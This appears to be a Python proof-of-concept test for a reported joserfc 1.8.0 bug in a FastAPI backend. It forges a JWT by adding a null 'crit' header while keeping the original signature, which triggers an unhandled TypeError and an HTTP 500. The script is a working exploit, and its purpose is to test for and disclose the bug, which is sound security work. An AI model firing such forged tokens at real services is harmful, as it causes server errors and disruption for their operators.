"""Proof for fastapi-joserfc (server-error): a library bug, not a coding mistake.

joserfc 1.8.0 validates `crit` before the signature and iterates over its value: a protected header
with `"crit": null` raises TypeError, which is not a JoseError, so a backend that catches joserfc's
errors as its docs show lets it escape as HTTP 500. Anyone can send it: a real token's header with
`"crit": null` added, its signature kept (the signature cannot verify; it is never checked).
Exit 0 if the backend answers 5xx (flaw present), 1 if it refuses with 4xx, 2 on setup failure.
"""

import json

import zoolib


def prove(backend: str, issuer: str) -> bool:
    token = zoolib.session_jwt(issuer)
    header, _ = zoolib.decode_unverified(token)
    header["crit"] = None
    _, payload, signature = token.split(".")
    forged = f"{zoolib.b64u(json.dumps(header).encode())}.{payload}.{signature}"
    status, _, body = zoolib.me(backend, forged)
    zoolib.show('header {"crit": null}, original signature', status, body)
    if status >= 500:
        return True
    if not 400 <= status < 500:
        raise zoolib.Setup(f"HTTP {status}: neither a refusal (4xx) nor a server error")
    return False


if __name__ == "__main__":
    zoolib.main(prove)
